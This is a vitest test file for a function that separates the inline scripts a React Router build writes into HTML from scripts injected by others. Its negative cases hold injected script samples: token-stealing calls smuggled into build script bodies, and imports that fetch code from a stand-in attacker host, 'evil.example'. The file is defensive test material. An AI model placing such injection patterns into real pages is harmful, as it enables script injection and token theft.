import { expect, it } from "vitest";
import { inlineScripts, scriptsOfBuild } from "./inline-scripts.ts";

const MODULES = `import "/assets/manifest-1.js";
import * as route0 from "/assets/root-2.js";
import * as route1_clientLoader from "/assets/home-3.js";
import * as route1_main from "/assets/home-4.js";
const route1 = {...route1_clientLoader, ...route1_main};
  window.__reactRouterRouteModules = {"root":route0,"home/home-page":route1};

import("/assets/entry.client-5.js");`;
const data = (text: string) =>
  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(text)});`;
const PLAIN = `<script>begin();</script><script>((files) => load(files))(["/assets/a.js"])</script>
  <script type="text/waiting-module">${MODULES}</script><script>${data("[]")}</script>`;

const isOfBuild = scriptsOfBuild(PLAIN);

it.each([
  "begin();",
  '((files) => load(files))(["/assets/other-9.js","/assets/more.js"])',
  MODULES,
  data('[{"name":"O\'Hara \\"quoted\\" </script> \\u2028"}]\n'),
])("recognises the scripts that the build writes: %s", (script) => {
  expect(isOfBuild(script)).toBe(true);
});

it.each([
  "stealToken()",
  "begin();stealToken()",
  `${data("[]")}stealToken()`,
  'window.__reactRouterContext.streamController.enqueue("" + stealToken());',
  '((files) => load(files))(["https://evil.example/x.js"])',
  '((files) => load(files))(["/assets/a.js"], stealToken())',
  `${MODULES}stealToken();`,
  'import "https://evil.example/x.js";',
  'import("//evil.example/assets/x.js");',
  "const route1 = {...stealToken()};",
])("does not recognise scripts that somebody else has written: %s", (script) => {
  expect(isOfBuild(script)).toBe(false);
});

it("finds the scripts that a browser would run", () => {
  const html =
    '<script type="application/ld+json">{}</script><script src="/x.js"></script><script type="module" async="">b(\n)</script>';
  expect(inlineScripts(html)).toEqual(["b(\n)"]);
});
